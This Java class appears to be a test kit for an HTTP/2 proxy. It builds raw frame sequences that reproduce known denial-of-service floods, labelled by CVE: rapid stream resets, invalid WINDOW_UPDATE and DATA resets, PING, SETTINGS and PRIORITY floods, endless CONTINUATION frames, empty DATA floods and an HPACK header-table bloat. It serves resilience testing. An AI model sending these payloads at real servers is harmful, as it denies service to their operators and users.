package dev.sluice.proxy.kit;

import static dev.sluice.proxy.kit.FrameWire.frame;

import io.netty.buffer.ByteBufUtil;
import io.netty.buffer.Unpooled;
import io.netty.handler.codec.http2.DefaultHttp2Headers;
import io.netty.handler.codec.http2.Http2Headers;
import java.io.ByteArrayOutputStream;
import java.util.Arrays;
import java.util.Map;
import java.util.TreeMap;
import java.util.function.IntFunction;
import javax.net.ssl.SSLSocket;

/** What clients send who mean to keep a server of HTTP/2 busy for nothing. */
public final class Floods {

    /** The host of requests that are given up before they are answered. */
    public static final String SILENT = "silent.example.org";

    private static final int CANCEL = 8;
    private static final int SMALL = 64;
    private static final int LARGE = 16_384;
    private static final int MOST_WINDOW = 0x7fffffff;

    /** The frames of one stream that comes to nothing. */
    @FunctionalInterface
    public interface Reset {

        byte[] apply(FrameWire wire, int stream);
    }

    private Floods() {}

    /** Streams that end in a reset. */
    public static Map<String, Reset> resets() {
        Map<String, Reset> floods = new TreeMap<>();
        floods.put(
                "CVE-2023-44487, a reset at once",
                (wire, stream) -> all(get(wire, stream), frame(FrameWire.RST_STREAM, 0, stream, number(CANCEL))));
        floods.put(
                "CVE-2025-8671, WINDOW_UPDATE of nothing",
                (wire, stream) -> all(get(wire, stream), frame(FrameWire.WINDOW_UPDATE, 0, stream, number(0))));
        floods.put(
                "CVE-2025-8671, a window too large",
                (wire, stream) ->
                        all(get(wire, stream), frame(FrameWire.WINDOW_UPDATE, 0, stream, number(MOST_WINDOW))));
        floods.put(
                "CVE-2025-8671, DATA after the end",
                (wire, stream) -> all(get(wire, stream), frame(FrameWire.DATA, 0, stream, new byte[1])));
        floods.put("CVE-2025-8671, a head after the end", (wire, stream) -> all(get(wire, stream), get(wire, stream)));
        floods.put(
                "CVE-2025-8671, more than content-length",
                (wire, stream) -> all(
                        head(wire, stream, false, fields(wire).add("content-length", "1")),
                        frame(FrameWire.DATA, 0, stream, new byte[2])));
        floods.put("CVE-2019-9516, fields of nothing", (wire, stream) -> {
            byte[] block = all(wire.encoded(stream, fields(wire)), new byte[3 * SMALL]);
            return frame(FrameWire.HEADERS, FrameWire.END_HEADERS | FrameWire.END_STREAM, stream, block);
        });
        return floods;
    }

    /** Frames without an effect, for a stream that is open. */
    public static Map<String, IntFunction<byte[]>> frames() {
        Map<String, IntFunction<byte[]>> floods = new TreeMap<>();
        floods.put("CVE-2019-9512, PING", stream -> frame(FrameWire.PING, 0, 0, new byte[8]));
        floods.put("answers to no PING", stream -> frame(FrameWire.PING, FrameWire.ACK, 0, new byte[8]));
        floods.put("CVE-2019-9515, SETTINGS", stream -> frame(FrameWire.SETTINGS, 0, 0));
        floods.put(
                "CVE-2019-9513, PRIORITY",
                stream -> frame(FrameWire.PRIORITY_FRAME, 0, stream, new byte[] {0, 0, 0, 0, 1}));
        floods.put("WINDOW_UPDATE of one byte", stream -> frame(FrameWire.WINDOW_UPDATE, 0, stream, number(1)));
        floods.put("a frame of an unknown type", stream -> frame(0xbe, 0, stream, new byte[8]));
        return floods;
    }

    /** A request on stream 3 that never ends, as a client sends whose first was on stream 1. */
    public static Map<String, byte[]> withoutEnd() {
        Map<String, byte[]> floods = new TreeMap<>();
        floods.put("CVE-2024-27316, CONTINUATION of some bytes", continued(100, new byte[SMALL]));
        floods.put("CVE-2026-33871, CONTINUATION of none", continued(100, new byte[0]));
        floods.put("CVE-2024-27316, CONTINUATION of many bytes", continued(3, new byte[LARGE]));
        byte[] emptyData = post(3);
        for (int i = 0; i < 10; i++) {
            emptyData = all(emptyData, frame(FrameWire.DATA, 0, 3));
        }
        floods.put("CVE-2019-9518, DATA of none", emptyData);
        return floods;
    }

    private static byte[] post(int stream) {
        byte[] block = FrameWire.literal(":method", "POST", ":scheme", "http", ":authority", SILENT, ":path", "/");
        return frame(FrameWire.HEADERS, FrameWire.END_HEADERS, stream, block);
    }

    private static byte[] continued(int times, byte[] part) {
        byte[] flood = frame(FrameWire.HEADERS, 0, 3, part);
        for (int i = 0; i < times; i++) {
            flood = all(flood, frame(FrameWire.CONTINUATION, 0, 3, part));
        }
        return flood;
    }

    /** A field of 4,000 bytes that is kept in the table, and a hundred references to it. */
    public static byte[] headThatGrows(int stream) {
        ByteArrayOutputStream block = new ByteArrayOutputStream();
        block.writeBytes(new byte[] {(byte) 0x82, (byte) 0x86, (byte) 0x84}); // GET, http, /
        block.writeBytes(new byte[] {0x40, 1, 'x', 127, (byte) 0xa1, 0x1e}); // 127 + 33 + 30 * 128 = 4000
        byte[] value = new byte[4000];
        Arrays.fill(value, (byte) 'v');
        block.writeBytes(value);
        for (int i = 0; i < 100; i++) {
            block.write(0xbe); // the youngest entry
        }
        return frame(FrameWire.HEADERS, FrameWire.END_HEADERS | FrameWire.END_STREAM, stream, block.toByteArray());
    }

    private static Http2Headers fields(FrameWire wire) {
        return new DefaultHttp2Headers(false)
                .method("GET")
                .scheme(wire.socket() instanceof SSLSocket ? "https" : "http")
                .authority(SILENT)
                .path("/");
    }

    /** A request of {@link #SILENT} without a body. */
    public static byte[] get(FrameWire wire, int stream) {
        return head(wire, stream, true, fields(wire));
    }

    public static byte[] reset(int stream) {
        return frame(FrameWire.RST_STREAM, 0, stream, number(CANCEL));
    }

    private static byte[] head(FrameWire wire, int stream, boolean last, Http2Headers fields) {
        int flags = FrameWire.END_HEADERS | (last ? FrameWire.END_STREAM : 0);
        return frame(FrameWire.HEADERS, flags, stream, wire.encoded(stream, fields));
    }

    private static byte[] number(int value) {
        return ByteBufUtil.getBytes(Unpooled.copyInt(value));
    }

    private static byte[] all(byte[]... parts) {
        ByteArrayOutputStream all = new ByteArrayOutputStream();
        for (byte[] part : parts) {
            all.writeBytes(part);
        }
        return all.toByteArray();
    }
}
